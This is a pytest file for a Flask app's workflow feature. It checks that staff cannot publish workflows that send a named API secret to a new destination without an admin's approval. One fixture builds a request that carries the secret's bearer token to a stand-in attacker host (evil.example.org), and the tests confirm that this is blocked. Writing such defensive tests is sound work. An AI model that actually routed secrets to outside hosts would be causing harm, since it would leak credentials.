"""Staff who may publish workflows do not choose where the team's secrets go."""

from __future__ import annotations

import pytest
from flask import Flask

from tests import factories
from tests.services.workflows.stage import ada, flow, step
from webapp.db import db
from webapp.errors import Forbidden
from webapp.models.user import Role
from webapp.rules.workflow.document import Document
from webapp.services import settings
from webapp.services.actions import named_secrets
from webapp.services.workflows import store
from webapp.services.workflows.editing import publishing, secret_uses

OURS, THEIRS = "https://booking.example.com/visits", "https://evil.example.org/take"
KEY = "Authorization: Bearer {{secret.booking}}"


def asking(url: str, headers: str = KEY, note: str = "") -> Document:
    return flow("hand", step(1, "http_request", url=url, headers=headers), step(2, "note", text=note or "."))


def test_only_an_admin_says_where_a_secret_goes(app: Flask) -> None:
    grace = factories.user("Grace", Role.STAFF)
    admin = factories.user("Ada")
    settings.put("staff_workflows", True)
    named_secrets.put("booking", "sk-0123456789", admin.id)
    workflow = store.create("Books", grace, asking(OURS))
    with pytest.raises(Forbidden, match=r"the secret “booking” to booking\.example\.com, which an admin"):
        publishing.publish(workflow.id, 1, grace)
    publishing.publish(workflow.id, 1, admin)
    store.save(workflow.id, 1, asking(OURS, note="Another note."), grace)
    publishing.publish(workflow.id, 2, grace)
    for no, changed in enumerate((asking(THEIRS), asking(f"{OURS}/of/theirs")), start=2):
        store.save(workflow.id, no, changed, grace)
        with pytest.raises(Forbidden, match="secret “booking”"):
            publishing.publish(workflow.id, no + 1, grace)
    store.save(workflow.id, 4, asking(THEIRS, "X-Shop: 17"), grace)
    publishing.publish(workflow.id, 5, grace)
    db.session.commit()
    assert workflow.version == 3


def test_what_is_sent_where(app: Flask) -> None:
    ada()
    assert secret_uses.of(None) == set()
    assert secret_uses.of(asking("nowhere")) == set(), "it is never asked"
    assert secret_uses.of(asking(OURS, "X-A: {{secret.booking}}-{{secret.b}}\nX-B: 1")) == {
        ("booking", OURS), ("b", OURS),
    }  # fmt: skip
